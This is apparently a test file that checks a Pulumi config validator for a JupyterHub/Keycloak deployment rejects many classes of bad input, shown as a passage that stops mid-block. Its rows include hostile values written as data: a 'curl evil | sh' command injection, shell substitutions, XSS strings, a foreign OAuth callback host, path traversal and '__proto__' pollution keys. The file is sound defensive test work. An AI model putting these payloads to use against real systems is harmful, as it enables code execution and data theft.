// Bad input, by class: each block is one class of value that Docker, DockerSpawner,
// Keycloak, JupyterHub or a browser would refuse, fold or misread, or that would leak a
// secret or flood a message. Every row goes through the same path as `pulumi up`
// (projectKeys, then parseConfig) and must be refused with the key first. A new class
// is one more block.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { ConfigError, parseConfig, projectKeys } from "../../config";
import { validRaw } from "../fixtures";

type Row = [what: string, overrides: Record<string, unknown>, expected: RegExp];

const SECRET = "s3cret-client-value-9f2c";

/** The flat `project:key -> string` map `pulumi config` hands over, from a valid config. */
function flat(overrides: Record<string, unknown>, base: Record<string, unknown> = { ...validRaw(), keycloakClientSecret: SECRET }): Record<string, string> {
    const out: Record<string, string> = {};
    for (const [k, v] of Object.entries({ ...base, ...overrides })) {
        if (v === undefined) continue;
        out[k.includes(":") ? k : `pyiron-jupyterhub:${k}`] = typeof v === "string" ? v : JSON.stringify(v);
    }
    return out;
}
const trial = (overrides: Record<string, unknown>) => ({ __trial: true, ...overrides });

function problemsOf(overrides: Record<string, unknown>): string[] {
    const { __trial, ...rest } = overrides;
    const raw = __trial ? flat(rest, { mode: "trial" }) : flat(rest);
    try {
        parseConfig(projectKeys(raw));
    } catch (e) {
        assert.ok(e instanceof ConfigError, `expected a ConfigError, got ${e}`);
        return e.problems;
    }
    assert.fail("the config was accepted");
}

const kc = (change: Record<string, unknown>) => ({ keycloak: { realmUrl: "https://keycloak.example.org/realms/pyiron", clientId: "jupyterhub", ...change } });
const image = (label: string, ref = "pyiron/base:2025-11-24") => ({ images: [{ label, image: ref }] });
const long = (n: number, ch = "a") => ch.repeat(n);

const CLASSES: Record<string, Row[]> = {
    "URLs that a browser or the hub would read differently": [
        ["no scheme", { publicUrl: "hub.example.org" }, /^publicUrl: is not a URL/],
        ["a scheme without slashes", { publicUrl: "https:hub.example.org" }, /^publicUrl: is not (a URL|written the way browsers read it)/],
        ["an empty query", { publicUrl: "https://hub.example.org/?" }, /^publicUrl: has a query or fragment/],
        ["an empty fragment", { publicUrl: "https://hub.example.org/#" }, /^publicUrl: has a query or fragment/],
        ["a dot segment", { publicUrl: "https://hub.example.org/." }, /^publicUrl: is not (a URL|written the way)/],
        ["a backslash", { publicUrl: "https://hub.example.org\\" }, /^publicUrl: is not a URL/],
        ["an upper-case host", { publicUrl: "https://HUB.Example.ORG" }, /^publicUrl: is not written the way browsers read it/],
        ["the default port spelt out", { publicUrl: "https://hub.example.org:443" }, /^publicUrl: is not written the way browsers read it/],
        ["a non-ASCII host", { publicUrl: "https://hüb.example.org" }, /^publicUrl: is not a URL/],
        ["an IP shorthand", { publicUrl: "https://0x7f.1" }, /^publicUrl: is not written the way browsers read it/],
        ["a tab inside", { publicUrl: "https://hub.exam\tple.org" }, /^publicUrl: holds a control character/],
        ["a leading control character", { publicUrl: "\u0001https://hub.example.org" }, /^publicUrl: holds a control character/],
        ["a trailing dot on the host", { publicUrl: "https://hub.example.org." }, /^publicUrl: has a host name ending in a dot/],
        ["an ftp URL", { publicUrl: "ftp://hub.example.org" }, /^publicUrl: is not a URL/],
        ["a javascript: callback", kc({ callbackUrl: "javascript:alert(document.cookie)" }), /^keycloak\.callbackUrl: is not a URL/],
        ["a realm URL with a query", kc({ realmUrl: "https://kc.example.org/realms/pyiron?x=1" }), /^keycloak\.realmUrl: has a query or fragment/],
        ["a realm URL with a space", kc({ realmUrl: "https://kc.example.org/realms/my realm" }), /^keycloak\.realmUrl: is not a URL/],
        ["a logout URL with a query", kc({ logoutUrl: "https://kc.example.org/realms/p/protocol/openid-connect/logout?ui_locales=de" }), /^keycloak\.logoutUrl: has a query or fragment/],
        ["a newline inside an endpoint", kc({ authorizeUrl: "https://kc.example.org/realms/p/protocol/openid-connect/a\nuth" }), /^keycloak\.authorizeUrl: holds a control character/],
        ["an encoded control character", kc({ tokenUrl: "https://kc.example.org/realms/p/%0atoken" }), /^keycloak\.tokenUrl: encodes a control character/],
        ["a realm URL without /realms/", kc({ realmUrl: "https://kc.example.org" }), /^keycloak\.realmUrl: is not a realm URL/],
        ["an endpoint given as the realm", kc({ realmUrl: "https://kc.example.org/realms/pyiron/protocol/openid-connect/auth" }), /^keycloak\.realmUrl: is not a realm URL/],
        ["a realm URL naming no realm", kc({ realmUrl: "https://kc.example.org/realms/" }), /^keycloak\.realmUrl: is not a realm URL/],
        ["a callback on another host", kc({ callbackUrl: "https://evil.example.net/hub/oauth_callback" }), /^keycloak\.callbackUrl: must be on the hub's own origin, https:\/\/hub\.example\.org/],
        ["a callback over http", kc({ callbackUrl: "http://hub.example.org/hub/oauth_callback" }), /^keycloak\.callbackUrl: must be on the hub's own origin/],
        ["an overlong URL", { publicUrl: `https://${long(2100)}.example.org` }, /^publicUrl: is longer than 2048 characters/],
    ],
    "credentials and secrets where they would leak": [
        ["a user and password in the public URL", { publicUrl: "https://user:pw@hub.example.org" }, /^publicUrl: carries a user name or password/],
        ["a user name alone in the realm URL", kc({ realmUrl: "https://admin@kc.example.org/realms/p" }), /^keycloak\.realmUrl: carries a user name or password/],
        ["a password in the token URL", kc({ tokenUrl: "https://a:b@kc.example.org/realms/p/protocol/openid-connect/token" }), /^keycloak\.tokenUrl: carries a user name or password/],
        ["a client secret in a query", kc({ authorizeUrl: "https://kc.example.org/realms/p/protocol/openid-connect/auth?client_secret=x" }), /^keycloak\.authorizeUrl: has a query or fragment/],
        ["a client secret with a tab", { keycloakClientSecret: "[abc\tdef" }, /^keycloakClientSecret: holds a control character/],
        ["a client secret with a newline", { keycloakClientSecret: "abc\ndef" }, /^keycloakClientSecret: holds a control character/],
        ["an empty client secret", { keycloakClientSecret: "" }, /^keycloakClientSecret: is empty/],
        ["a client secret with blanks around it", { keycloakClientSecret: " s3cret " }, /^keycloakClientSecret: has blanks at its start or end/],
        ["an overlong client secret", { keycloakClientSecret: long(1025, "x") }, /^keycloakClientSecret: is longer than 1024 characters/],
    ],
    "usernames Keycloak or JupyterHub would fold or refuse": [
        ["a capital letter", { admins: ["Alice"] }, /^admins\[0\]: has capital letters/],
        ["the same name twice after folding", { allowedUsers: ["bob", "Bob"] }, /^allowedUsers\[1\]: has capital letters/],
        ["a space", { admins: ["alice smith"] }, /^admins\[0\]: is not a username/],
        ["a quote", { admins: ["o'neil"] }, /^admins\[0\]: is not a username/],
        ["markup", { admins: ["a<b>c"] }, /^admins\[0\]: is not a username/],
        ["shell characters", { allowedUsers: ["x&y"] }, /^allowedUsers\[0\]: is not a username/],
        ["a lone dot", { admins: ["."] }, /^admins\[0\]: is not a username/],
        ["two dots", { admins: [".."] }, /^admins\[0\]: is not a username/],
        ["a NUL", { admins: ["a\u0000b"] }, /^admins\[0\]: holds a control character/],
        ["a zero-width space", { admins: ["ali\u200bce"] }, /^admins\[0\]: holds a control character/],
        ["a Cyrillic look-alike", { admins: ["\u0430lice"] }, /^admins\[0\]: is not a username/],
        ["a no-break space", { admins: ["a\u00a0b"] }, /^admins\[0\]: is not a username/],
        ["a leading dash", { admins: ["-rf"] }, /^admins\[0\]: is not a username/],
        ["a slash", { admins: ["a/b"] }, /^admins\[0\]: is not a username/],
        ["an overlong name", { admins: [long(65)] }, /^admins\[0\]: is longer than 64 characters/],
        ["a name listed twice", { admins: ["alice", "alice"] }, /^admins: lists the same user twice/],
        ["an @ in a trial user", trial({ trial: { users: ["bob@example.org"] } }), /^trial\.users\[0\]: a trial user name cannot hold @/],
        ["a capital in a trial user", trial({ trial: { users: ["Admin"] } }), /^trial\.users\[0\]: has capital letters/],
    ],
    "group names the claim would never match": [
        ["an empty part of a group path", { allowedGroups: ["parent//child"] }, /^allowedGroups\[0\]: is not a group name or path/],
        ["a group path ending in a slash", { allowedGroups: ["parent/child/"] }, /^allowedGroups\[0\]: is not a group name or path/],
        ["a newline", { allowedGroups: ["pyiron\nusers"] }, /^allowedGroups\[0\]: holds a control character/],
        ["blanks only", { allowedGroups: ["  "] }, /^allowedGroups\[0\]: is empty/],
        ["markup", { allowedGroups: ["<img src=x onerror=alert(1)>"] }, /^allowedGroups\[0\]: is not a group name/],
        ["the same group with and without /", { allowedGroups: ["/a", "a"] }, /^allowedGroups: lists the same group twice/],
        ["an overlong name", { allowedGroups: [long(300, "g")] }, /^allowedGroups\[0\]: is longer than 255 characters/],
        ["a quote", { allowedGroups: ['say "hi"'] }, /^allowedGroups\[0\]: is not a group name/],
    ],
    "image labels the spawn form or a resource name would break": [
        ["a double quote", image('base "v2"'), /^images\[0\]\.label: is not a label/],
        ["markup", image("x</option></select><script>alert(1)</script>"), /^images\[0\]\.label: is not a label/],
        ["__proto__", image("__proto__"), /^images\[0\]\.label: is not a label/],
        ["a backslash", image("base\\v2"), /^images\[0\]\.label: is not a label/],
        ["a single quote", image("o'neil image"), /^images\[0\]\.label: is not a label/],
        ["a zero-width space", image("base\u200bv2"), /^images\[0\]\.label: holds a control character/],
        ["an entity", image("a &amp; b"), /^images\[0\]\.label: is not a label/],
        ["a newline", image("base\nv2"), /^images\[0\]\.label: holds a control character/],
        ["a URN separator", image("a::b"), /^images\[0\]\.label: is not a label/],
        ["labels equal but for case", { images: [{ label: "Base", image: "pyiron/base:2025-11-24" }, { label: "base", image: "pyiron/pyiron:2025-11-24" }] }, /^images: uses the same label twice/],
        ["an overlong label", image(long(100, "L")), /^images\[0\]\.label: is longer than 64 characters/],
        ["an empty label", image(""), /^images\[0\]\.label: is empty/],
    ],
    "image references Docker or the hub would refuse": [
        ["an upper-case repository", image("base", "Pyiron/base:2025-11-24"), /^images\[0\]\.image: is not a Docker image reference/],
        ["latest", image("base", "pyiron/base:latest"), /^images\[0\]\.image: is tagged latest/],
        ["no tag", image("base", "pyiron/base"), /^images\[0\]\.image: has no tag/],
        ["a pyiron image without a date tag", image("base", "pyiron/base:v1"), /^images\[0\]\.image: is a pyiron image without a date tag/],
        ["a retired image after its last tag", image("base", "pyiron/continuum:2025-11-24"), /^images\[0\]\.image: is a tag a retired pyiron image never had/],
        ["a repository name too long", image("base", `pyiron/${long(600)}:2025-11-24`), /^images\[0\]\.image: is longer than 512 characters/],
        ["a registry starting with a dash", image("base", "-reg.example.org/x:1"), /^images\[0\]\.image: is not a Docker image reference/],
        ["an empty registry label", image("base", "reg..example.org/x:1"), /^images\[0\]\.image: is not a Docker image reference/],
        ["a shell substitution", image("base", "$(id):1"), /^images\[0\]\.image: is not a Docker image reference/],
        ["the bare JupyterHub image as the hub", { hubImage: "quay.io/jupyterhub/jupyterhub:5.5.4" }, /^hubImage: is the bare JupyterHub image/],
        ["a base image that is no image", { hubBuildArgs: { JUPYTERHUB_IMAGE: "not an image!" } }, /^hubBuildArgs\.JUPYTERHUB_IMAGE: is not a Docker image reference/],
        ["postgres latest", { postgresImage: "postgres:latest" }, /^postgresImage: is tagged latest/],
        ["a database that is not Postgres", { postgresImage: "mysql:8" }, /^postgresImage: is not a Postgres image/],
        ["a registry port past 65535", image("base", "localhost:99999/x:1"), /^images\[0\]\.image: names a registry port above 65535/],
        ["an ancient Postgres", { postgresImage: "postgres:9.5" }, /^postgresImage: is a Postgres older than 13/],
        ["an old Keycloak for the trial", trial({ trial: { keycloakImage: "quay.io/keycloak/keycloak:21.1.2" } }), /^trial\.keycloakImage: is a Keycloak older than 25/],
    ],
    "limits outside what Docker and DockerSpawner accept": [
        ["a memory size with many digits", { memLimit: `${long(40, "9")}G` }, /^memLimit: is longer than 16 characters/],
        ["more memory than any host", { memLimit: "8192T" }, /^memLimit: is above 4T/],
        ["too little memory", { memLimit: "63M" }, /^memLimit: is below 64M/],
        ["a memory unit Docker does not read", { memLimit: "2GB" }, /^memLimit: is not a memory size/],
        ["an exponent", { memLimit: "1e3G" }, /^memLimit: is not a memory size/],
        ["a fraction of a CPU Docker refuses", { cpuLimit: "0.001" }, /^cpuLimit: is below 0\.01/],
        ["a CPU limit that would mean none", { cpuLimit: "0.000001" }, /^cpuLimit: is below 0\.01/],
        ["three decimals", { cpuLimit: "0.015" }, /^cpuLimit: has more than two decimals/],
        ["zero CPUs", { cpuLimit: "0" }, /^cpuLimit: must be greater than 0/],
        ["more CPUs than any host", { cpuLimit: "5000" }, /^cpuLimit: is more CPUs than any host has/],
        ["CPUs as words", { cpuLimit: "two" }, /^cpuLimit: is not a number of CPUs/],
        ["a process bound too small for a kernel", { pidsLimit: "10" }, /^pidsLimit: is under 64/],
        ["a fractional process bound", { pidsLimit: "100.5" }, /^pidsLimit: must be a whole number/],
        ["a negative server bound", { maxActiveServers: "-1" }, /^maxActiveServers: is negative: 0 means no bound/],
        ["no spawn at all", { maxConcurrentSpawns: "0" }, /^maxConcurrentSpawns: is under 1: no one could start a server/],
        ["spawns as words", { maxConcurrentSpawns: "ten" }, /^maxConcurrentSpawns: is not a number of spawns/],
        ["a mirrored base image of another JupyterHub release", { hubVersion: "6.1", hubBuildArgs: { JUPYTERHUB_IMAGE: "mirror.example.org/jupyterhub/jupyterhub:5.5.4" } },
            /^hubBuildArgs\.JUPYTERHUB_IMAGE: "mirror\.example\.org\/jupyterhub\/jupyterhub:5\.5\.4" is JupyterHub 5\.5, and hubVersion is 6\.1\. Fix: pulumi config set --path hubBuildArgs\.JUPYTERHUB_IMAGE mirror\.example\.org\/jupyterhub\/jupyterhub:6\.1\.1, or: pulumi config set hubVersion 5\.5$/],
        ["a JupyterHub release this project does not run", { hubVersion: "5.4" }, /^hubVersion: must be one of "5\.5", "6\.1"/],
        ["an idle timeout past any integer", { idleTimeout: "1000000000000000000000" }, /^idleTimeout: is not a number of seconds/],
        ["an idle timeout of years", { idleTimeout: "31536000000" }, /^idleTimeout: is over 30 days/],
        ["a fractional timeout", { idleTimeout: "3600.5" }, /^idleTimeout: must be whole seconds/],
    ],
    "ports and addresses a browser or the host cannot use": [
        ["a port browsers refuse (X11)", { httpsPort: "6000" }, /^httpsPort: 6000 is a port browsers refuse to open/],
        ["a port browsers refuse (SIP)", { httpsPort: "5060" }, /^httpsPort: 5060 is a port browsers refuse/],
        ["a port browsers refuse (10080)", { httpsPort: "10080" }, /^httpsPort: 10080 is a port browsers refuse/],
        ["SSH's port for the trial hub", trial({ trial: { port: 22 } }), /^trial\.port: 22 is a port browsers refuse/],
        ["IRC for the trial Keycloak", trial({ trial: { keycloakPort: 6667 } }), /^trial\.keycloakPort: 6667 is a port browsers refuse/],
        ["port zero", { httpsPort: "0" }, /^httpsPort: is not a port number/],
        ["a port past 65535", { httpsPort: "70000" }, /^httpsPort: is not a port number/],
        ["a port with words", { httpsPort: "443 (published)" }, /^httpsPort: is not a port number/],
        ["a host port for user servers past 65535", { userHostPorts: [70000] }, /^userHostPorts\[0\]: is not a port number \(1-65535\) \(got "[^"]+"\)\. Fix: pulumi config set --path 'userHostPorts\[0\]' 3141$/],
        ["a host port for user servers twice", { userHostPorts: [3141, "3141"] }, /^userHostPorts: lists the same port twice/],
        ["a host port range for user servers", { userHostPorts: ["3000-4000"] }, /^userHostPorts\[0\]: is not a port number \(1-65535\) \(got "[^"]+"\)\. Fix: pulumi config set --path 'userHostPorts\[0\]' 3141$/],
        ["a firewall switch in words", { userFirewall: "yes" }, /^userFirewall: /],
        ["a multicast address", { bindAddress: "224.0.0.1" }, /^bindAddress: 224\.0\.0\.1 is not an address of this host/],
        ["the broadcast address", { bindAddress: "255.255.255.255" }, /^bindAddress: 255\.255\.255\.255 is not an address of this host/],
        ["a 0.x address", { bindAddress: "0.1.2.3" }, /^bindAddress: 0\.1\.2\.3 is not an address of this host/],
        ["a host name", { bindAddress: "localhost" }, /^bindAddress: is not an IPv4 address/],
        ["another loopback address for a trial", trial({ bindAddress: "127.0.0.2" }), /^bindAddress: a trial stack is reached at localhost/],
        ["a public address for a trial", trial({ bindAddress: "0.0.0.0" }), /^bindAddress: a trial stack serves plain HTTP and binds to 127\.0\.0\.1 only/],
        ["the hub and Keycloak on one trial port", trial({ trial: { port: 8180 } }), /^trial\.keycloakPort: is the hub's port too/],
    ],
    "networks the hub must not join": [
        ["the host network", { hubExtraNetworks: ["host"] }, /^hubExtraNetworks\[0\]: is one of Docker's own networks/],
        ["no network", { hubExtraNetworks: ["none"] }, /^hubExtraNetworks\[0\]: is one of Docker's own networks/],
        ["the default bridge", { hubExtraNetworks: ["bridge"] }, /^hubExtraNetworks\[0\]: is one of Docker's own networks/],
        ["the swarm ingress", { hubExtraNetworks: ["ingress"] }, /^hubExtraNetworks\[0\]: is one of Docker's own networks/],
        ["its own user network", { hubExtraNetworks: ["pyiron-hub-users"] }, /^hubExtraNetworks\[0\]: "pyiron-hub-users" is this stack's own network/],
        ["another deployment's database", { hubExtraNetworks: ["lab-database"] }, /^hubExtraNetworks\[0\]: "lab-database" is this stack's own network or a hub database network/],
        ["a name with a slash", { hubExtraNetworks: ["a/b"] }, /^hubExtraNetworks\[0\]: is not a Docker network name/],
        ["too many networks", { hubExtraNetworks: Array.from({ length: 11 }, (_, i) => `net${i}`) }, /^hubExtraNetworks: lists more than 10 networks/],
    ],
    "host paths that change the mount or are not what was meant": [
        ["a relative path", { tls: { keyPath: "hub.key", certPath: "/etc/ssl/certs/hub.crt" } }, /^tls\.keyPath: must be an absolute path/],
        ["a colon", { tls: { keyPath: "/etc/ssl/hub.key:rw", certPath: "/etc/ssl/certs/hub.crt" } }, /^tls\.keyPath: holds a colon or comma/],
        ["a comma", { tls: { keyPath: "/etc/ssl/private/hub.key", certPath: "/etc/ssl/a,b.crt" } }, /^tls\.certPath: holds a colon or comma/],
        ["a dot-dot segment", { tls: { keyPath: "/etc/ssl/../shadow", certPath: "/etc/ssl/certs/hub.crt" } }, /^tls\.keyPath: is not a plain path/],
        ["a double slash", { tls: { keyPath: "/etc//ssl/hub.key", certPath: "/etc/ssl/certs/hub.crt" } }, /^tls\.keyPath: is not a plain path/],
        ["a brace (a Caddy placeholder)", { tls: { keyPath: "/etc/ssl/{env.HOME}/hub.key", certPath: "/etc/ssl/certs/hub.crt" } }, /^tls\.keyPath: holds a quote, backslash or brace/],
        ["a quote", { tls: { keyPath: "/etc/ssl/private/hub.key", certPath: '/etc/ssl/"x.crt' } }, /^tls\.certPath: holds a quote, backslash or brace/],
        ["a backslash in the ACME root", { tls: { acme: { email: "a@example.org", caRoot: "/etc/ssl/a\\b.crt" } } }, /^tls\.acme\.caRoot: holds a quote, backslash or brace/],
        ["a newline", { tls: { keyPath: "/etc/ssl/hub\n.key", certPath: "/etc/ssl/certs/hub.crt" } }, /^tls\.keyPath: holds a control character/],
        ["an unknown TLS key", { tls: { keyPath: "/etc/ssl/private/hub.key", certPath: "/etc/ssl/certs/hub.crt", chainPath: "/x" } }, /^tls\.chainPath: is not a config key of this project/],
    ],
    "keys that would reach object internals": [
        ["__proto__ supplying admins", { "pyiron-jupyterhub:__proto__": JSON.stringify({ admins: ["mallory"] }), admins: undefined }, /^__proto__: is not a config key of this project/],
        ["constructor", { "pyiron-jupyterhub:constructor": "x" }, /^constructor: is not a config key of this project/],
        ["prototype", { "pyiron-jupyterhub:prototype": "x" }, /^prototype: is not a config key of this project/],
        ["hasOwnProperty", { "pyiron-jupyterhub:hasOwnProperty": "x" }, /^hasOwnProperty: is not a config key of this project/],
        ["a build arg named constructor", { hubBuildArgs: { constructor: "x" } }, /^hubBuildArgs\.constructor: is not a config key of this project/],
        ["a build arg named __proto__", { hubBuildArgs: JSON.parse('{"__proto__": {"PIP_ARGS": "x"}}') }, /^hubBuildArgs\.__proto__: is not a config key of this project/],
        ["a TLS key named __proto__", { tls: JSON.parse('{"__proto__": {"keyPath": "/a"}, "certPath": "/etc/ssl/certs/hub.crt"}') }, /^tls\.(__proto__: is not a config key|keyPath: is required)/],
        ["a nested key set without --path (removed without --path)", { "pyiron-jupyterhub:tls.acme.email": "a@b.org" }, /^tls\.acme\.email: is not a config key of this project\. Remove it: pulumi config rm tls\.acme\.email; nested keys are set with `pulumi config set --path`$/],
        ["an unknown build arg", { hubBuildArgs: { HTTP_PROXY: "http://proxy:3141" } }, /^hubBuildArgs\.HTTP_PROXY: is not a config key of this project/],
    ],
    "keys that would be silently ignored": [
        ["build args with a prebuilt hub", { hubImage: "registry.example.org/hub:1.0", hubBuildArgs: { PIP_ARGS: "--no-index" } }, /^hubBuildArgs: is only used to build the hub recipe/],
        ["httpsPort in a trial", trial({ httpsPort: "8443" }), /^httpsPort: a trial stack serves plain HTTP on trial\.port/],
        ["allowInsecureHttp with https only", kc({ allowInsecureHttp: "true" }), /^keycloak\.allowInsecureHttp: is true, but every Keycloak URL uses https/],
        ["a misspelt project namespace", { "pyiron-jupyterhb:memLimit": "4G" }, /^pyiron-jupyterhb:memLimit: belongs to no project or provider this stack uses/],
        ["an unknown namespace", { "aws:region": "eu-central-1" }, /^aws:region: belongs to no project or provider/],
        ["trial settings in production", { trial: { port: 8000 } }, /^trial: is only used in trial mode/],
        ["production settings in a trial", trial({ publicUrl: "https://hub.example.org" }), /^publicUrl: is for production/],
        ["allowAll with a list", { allowAll: "true" }, /^allowAll: is true, so allowedUsers and allowedGroups would have no effect/],
    ],
    "build args that would reach a shell": [
        ["a command separator", { hubBuildArgs: { PIP_ARGS: "--no-index; curl evil | sh" } }, /^hubBuildArgs\.PIP_ARGS: is not a list of pip options/],
        ["a substitution", { hubBuildArgs: { PIP_ARGS: "--index-url=$(id)" } }, /^hubBuildArgs\.PIP_ARGS: is not a list of pip options/],
        ["a bare word", { hubBuildArgs: { PIP_ARGS: "requests" } }, /^hubBuildArgs\.PIP_ARGS: is not a list of pip options/],
        ["a backtick", { hubBuildArgs: { PIP_ARGS: "--pre `id`" } }, /^hubBuildArgs\.PIP_ARGS: is not a list of pip options/],
    ],
    "sizes that would take long or much memory": [
        ["a value of 300 KB", { memLimit: long(300 * 1024) }, /^memLimit: is 307200 characters long, more than 262144/],
        ["a list of 2000 admins", { admins: Array.from({ length: 2000 }, (_, i) => `user${i}`) }, /^admins: lists more than 1000 users/],
        ["60 images", { images: Array.from({ length: 60 }, (_, i) => ({ label: `img${i}`, image: "pyiron/base:2025-11-24" })) }, /^images: lists more than 50 images/],
        ["300 groups", { allowedGroups: Array.from({ length: 300 }, (_, i) => `g${i}`) }, /^allowedGroups: lists more than 200 groups/],
        ["60 trial users", trial({ trial: { users: Array.from({ length: 60 }, (_, i) => `u${i}`) } }), /^trial\.users: lists more than 50 users/],
        ["a string of 3000 characters", { keycloak: { realmUrl: `https://kc.example.org/realms/${long(3000)}`, clientId: "c" } }, /^keycloak\.realmUrl: is longer than 2048 characters/],
        ["a broken JSON list", { admins: "[alice" }, /^admins: is not valid JSON for a list/],
        ["a broken JSON object", { tls: "{keyPath" }, /^tls: is not valid JSON for an object/],
    ],
    "profiles that name nothing, decide nothing, or use bad group syntax": [
        ["a label not in images", { profiles: [{ name: "dft", images: ["pyiron_lammps"] }] }, /^profiles\[0\]\.images\[0\]: "pyiron_lammps" is not a label of images/],
        ["a label in the wrong case", { profiles: [{ name: "dft", images: ["PYIRON_BASE", "pyiron_atomistics", "pyiron_md"] }] }, /^profiles\[0\]\.images\[0\]: "PYIRON_BASE" is not a label of images.*Fix: pulumi config set --path 'profiles\[0\]\.images\[0\]' pyiron_base/],
        ["a group path with an empty part", { profiles: [{ name: "dft", groups: ["/chem//dft"], images: ["pyiron_base"] }] }, /^profiles\[0\]\.groups\[0\]: is not a group name or path/],
        ["a group with a quote", { profiles: [{ name: "dft", groups: ["dft\"x"], images: ["pyiron_base"] }] }, /^profiles\[0\]\.groups\[0\]: is not a group name or path/],
        ["an empty group list", { profiles: [{ name: "dft", groups: [], images: ["pyiron_base"] }] }, /^profiles\[0\]\.groups: is empty: leave groups out/],
        ["no images", { profiles: [{ name: "dft", images: [] }] }, /^profiles\[0\]\.images: is empty/],
        ["the same name twice, in other case", { profiles: [{ name: "dft", images: ["pyiron_base"] }, { name: "DFT", groups: ["x"], images: ["pyiron_md"] }] }, /^profiles: names the same profile twice/],
        ["a profile after one for everyone with the same images", { profiles: [{ name: "all", images: ["pyiron_base", "pyiron_atomistics", "pyiron_md"] }, { name: "dft", groups: ["dft"], images: ["pyiron_base"] }] }, /^profiles\[1\]: "dft" decides nothing: each of its images goes first to profiles\[0\] \("all"\)/],
        ["a profile after one for a wider group set", { profiles: [{ name: "a", groups: ["dft", "md"], images: ["pyiron_base", "pyiron_atomistics", "pyiron_md"] }, { name: "b", groups: ["md"], images: ["pyiron_md"] }] }, /^profiles\[1\]: "b" decides nothing/],
        ["an image in no profile", { profiles: [{ name: "dft", images: ["pyiron_base"] }] }, /^images\[1\]: "pyiron_atomistics" is in no profile, so no one could start it/],
        ["a name the form shows unescaped", { profiles: [{ name: "<b>dft</b>", images: ["pyiron_base"] }] }, /^profiles\[0\]\.name: is not a label/],
        ["a memory limit Docker refuses", { profiles: [{ name: "dft", images: ["pyiron_base", "pyiron_atomistics", "pyiron_md"], memLimit: "8GB" }] }, /^profiles\[0\]\.memLimit: is not a memory size/],
        ["a CPU limit of three decimals", { profiles: [{ name: "dft", images: ["pyiron_base", "pyiron_atomistics", "pyiron_md"], cpuLimit: 0.125 }] }, /^profiles\[0\]\.cpuLimit: has more than two decimals/],
        ["an unknown field", { profiles: [{ name: "dft", images: ["pyiron_base", "pyiron_atomistics", "pyiron_md"], memlimit: "2G" }] }, /profiles\[0\]\.memlimit: is not a config key/],
        ["60 profiles", { profiles: Array.from({ length: 60 }, (_, i) => ({ name: `p${i}`, groups: [`g${i}`], images: ["pyiron_base", "pyiron_atomistics", "pyiron_md"] })) }, /^profiles: lists more than 50 profiles/],
    ],
    "shared folders that would hide the home, the image or each other": [
        ["the home itself", { sharedFolders: [{ name: "s", mountPath: "/home/jovyan" }] }, /^sharedFolders\[0\]\.mountPath: is not below \/home\/jovyan/],
        ["a parent of the home", { sharedFolders: [{ name: "s", mountPath: "/home" }] }, /^sharedFolders\[0\]\.mountPath: is not below/],
        ["the root", { sharedFolders: [{ name: "s", mountPath: "/" }] }, /^sharedFolders\[0\]\.mountPath: is not (below|a plain path)/],
        ["a system directory", { sharedFolders: [{ name: "s", mountPath: "/opt/conda" }] }, /^sharedFolders\[0\]\.mountPath: is not below/],
        ["a home with a trailing slash", { sharedFolders: [{ name: "s", mountPath: "/home/jovyan/" }] }, /^sharedFolders\[0\]\.mountPath: is not a plain path/],
        ["a path through ..", { sharedFolders: [{ name: "s", mountPath: "/home/jovyan/../../etc" }] }, /^sharedFolders\[0\]\.mountPath: is not a plain path/],
        ["a hidden directory of the home", { sharedFolders: [{ name: "s", mountPath: "/home/jovyan/.ssh" }] }, /^sharedFolders\[0\]\.mountPath: has a hidden part/],
        ["a hidden directory deeper", { sharedFolders: [{ name: "s", mountPath: "/home/jovyan/work/.jupyter" }] }, /^sharedFolders\[0\]\.mountPath: has a hidden part/],
        ["pyiron's own directory", { sharedFolders: [{ name: "s", mountPath: "/home/jovyan/pyiron/projects" }] }, /^sharedFolders\[0\]\.mountPath: is in ~\/pyiron/],
        ["a DockerSpawner placeholder", { sharedFolders: [{ name: "s", mountPath: "/home/jovyan/{username}" }] }, /^sharedFolders\[0\]\.mountPath: is not an absolute path of letters/],
        ["a colon, Docker's separator", { sharedFolders: [{ name: "s", mountPath: "/srv/a:ro" }] }, /^sharedFolders\[0\]\.mountPath: is not an absolute path of letters/],
        ["a relative path", { sharedFolders: [{ name: "s", mountPath: "shared" }] }, /^sharedFolders\[0\]\.mountPath: is not an absolute path/],
        ["one inside another", { sharedFolders: [{ name: "a", mountPath: "/srv/data" }, { name: "b", mountPath: "/srv/data/more" }] }, /^sharedFolders\[1\]\.mountPath: "\/srv\/data\/more" lies inside sharedFolders\[0\]/],
        ["one holding an earlier one", { sharedFolders: [{ name: "a", mountPath: "/srv/data/more" }, { name: "b", mountPath: "/srv/data" }] }, /^sharedFolders\[1\]\.mountPath: "\/srv\/data" holds sharedFolders\[0\]/],
        ["the same path twice", { sharedFolders: [{ name: "a", mountPath: "/srv/x" }, { name: "b", mountPath: "/srv/x" }] }, /^sharedFolders\[1\]\.mountPath: "\/srv\/x" is the mount path of sharedFolders\[0\]/],
        ["a volume name with a slash", { sharedFolders: [{ name: "a/b", mountPath: "/srv/x" }] }, /^sharedFolders\[0\]\.name: is not a volume name/],
        ["a volume name in capitals", { sharedFolders: [{ name: "Data", mountPath: "/srv/x" }] }, /^sharedFolders\[0\]\.name: is not a volume name/],
        ["the same name twice", { sharedFolders: [{ name: "a", mountPath: "/srv/x" }, { name: "a", mountPath: "/srv/y" }] }, /^sharedFolders: names the same folder twice/],
        ["readOnly not a boolean", { sharedFolders: [{ name: "a", mountPath: "/srv/x", readOnly: "yes" }] }, /^sharedFolders\[0\]\.readOnly: /],
    ],
    "extraConfig that would hide code or break the file": [
        ["a right-to-left override", { extraConfig: "c.JupyterHub.admin_access = False # \u202e" }, /^extraConfig: holds a control character or an invisible one/],
        ["a zero-width space", { extraConfig: "c.JupyterHub.admin\u200baccess = True" }, /^extraConfig: holds a control character or an invisible one/],
        ["a Hangul filler, which Python takes as a name", { extraConfig: "\u3164 = 1" }, /^extraConfig: holds a control character or an invisible one/],
        ["a word joiner", { extraConfig: "x = 1\u2060" }, /^extraConfig: holds a control character or an invisible one/],
        ["a soft hyphen", { extraConfig: "x\u00ad = 1" }, /^extraConfig: holds a control character or an invisible one/],
        ["an escape sequence", { extraConfig: "print('\u001b[2J')" }, /^extraConfig: holds a control character/],
        ["a NUL byte", { extraConfig: "x = 1\u0000" }, /^extraConfig: holds a control character/],
        ["Windows line ends", { extraConfig: "x = 1\r\ny = 2" }, /^extraConfig: has Windows line ends/],
        ["40 000 characters", { extraConfig: `# ${long(40000)}` }, /^extraConfig: is longer than 32768 characters/],
    ],
    "a swarm that could not hold users' files or keep its promises": [
        ["no storage", { swarm: {} }, /^swarm\.storagePath: /],
